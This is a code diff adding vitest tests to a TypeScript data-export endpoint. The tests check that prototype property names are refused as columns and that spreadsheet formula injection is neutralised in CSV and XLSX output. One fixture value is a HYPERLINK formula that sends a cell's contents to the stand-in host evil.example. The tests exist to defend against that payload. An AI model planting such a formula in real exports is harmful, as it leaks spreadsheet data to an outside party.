@@ -4,6 +4,7 @@ import { eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { rows } from '../src/db/client';
 import { customer_logs, customer_types, customers } from '../src/db/schema/customers';
+import { point_ledger } from '../src/db/schema/points';
 import { EXPORT_BATCH } from '../src/resources/export';
 import { BRANCH_USER } from './fixtures';
 import { createHarness, type Harness } from './harness';
@@ -212,5 +213,85 @@ describe('GET /export/<resource>', () => {
       (await get(admin, `/export/customer_log?customer_id=${customer.id}&columns=at`)).body,
     );
     expect(guessed).toEqual(['At', '2026-05-06 08:02']);
+  });
+
+  it('should refuse columns that are no column of the list, even ones every object has', async () => {
+    for (const name of ['staff_user', 'customer']) {
+      const res = await get(admin, `/export/${name}?columns=constructor,toString,__proto__`);
+      expect(res.statusCode).toBe(400);
+      expect(res.json().err_msg[0]).toBe("columns: unknown column 'constructor', 'toString', '__proto__'");
+    }
+    const skipped = await get(
+      admin,
+      '/export/customer?search=EXP-000001&columns=customer_code,hasOwnProperty,valueOf&unknown=skip',
+    );
+    expect(csvLines(skipped.body)).toEqual(['Customer code', 'EXP-000001']);
+  });
+
+  it('should write text that a spreadsheet would run as a formula as text, and numbers as numbers', async () => {
+    const { b1 } = h.fixture.branches;
+    const names = [
+      '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")',
+      '+62 813 Toko',
+      '-5 Toko Minus',
+      '@SUM(A1:A9)',
+      '\tToko Tab',
+      '\rToko CR',
+    ];
+    const stores = await h.database.db
+      .insert(customers)
+      .values(names.map((n, i) => ({ customer_code: `FORMULA-${i}`, customer_name: n, branch_id: b1.id })))
+      .returning({ id: customers.id });
+    await h.database.db.insert(point_ledger).values({
+      customer_id: stores[2].id,
+      point_type: 5,
+      points: -5,
+      reason: '-5 koreksi',
+      source: 'deduction',
+    });
+    const lines = csvLines(
+      (
+        await get(
+          admin,
+          '/export/customer?search=FORMULA-&by=customer_code&columns=customer_code,customer_name',
+        )
+      ).body,
+    );
+    expect(lines.slice(1)).toEqual([
+      `FORMULA-0,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")"`,
+      `FORMULA-1,"'+62 813 Toko"`,
+      `FORMULA-2,"'-5 Toko Minus"`,
+      `FORMULA-3,"'@SUM(A1:A9)"`,
+      `FORMULA-4,"'\tToko Tab"`,
+      `FORMULA-5,"'\rToko CR"`,
+    ]);
+    // A negative number stays a number (the column is a number), the text beside it does not run.
+    const ledger = csvLines(
+      (
+        await get(
+          admin,
+          `/export/point?customer_id=${stores[2].id}&columns=customer_name,points,reason,balance_after&kinds=,number,,`,
+        )
+      ).body,
+    );
+    expect(ledger.slice(1)).toEqual([`"'-5 Toko Minus",-5,"'-5 koreksi",`]);
+    const guessed = csvLines(
+      (await get(admin, `/export/point?customer_id=${stores[2].id}&columns=points,reason`)).body,
+    );
+    expect(guessed.slice(1)).toEqual([`-5,"'-5 koreksi"`]);
+
+    // XLSX: the same cells are typed text, written as they are (no quote), never formulas.
+    const res = await get(
+      admin,
+      '/export/customer?format=xlsx&search=FORMULA-&by=customer_code&columns=customer_code,customer_name',
+    );
+    const ExcelJS = ((await import('exceljs')) as unknown as { default: typeof import('exceljs') }).default;
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.rawPayload as never);
+    const ws = wb.worksheets[0];
+    const cells = [2, 3, 4, 5, 6, 7].map((r) => ws.getRow(r).getCell(2));
+    expect(cells.map((c) => c.type)).toEqual(names.map(() => ExcelJS.ValueType.String));
+    // XML reads a lone CR back as a line feed: still the text of the cell.
+    expect(cells.map((c) => c.value)).toEqual(names.map((n) => n.replace('\r', '\n')));
   });
 });
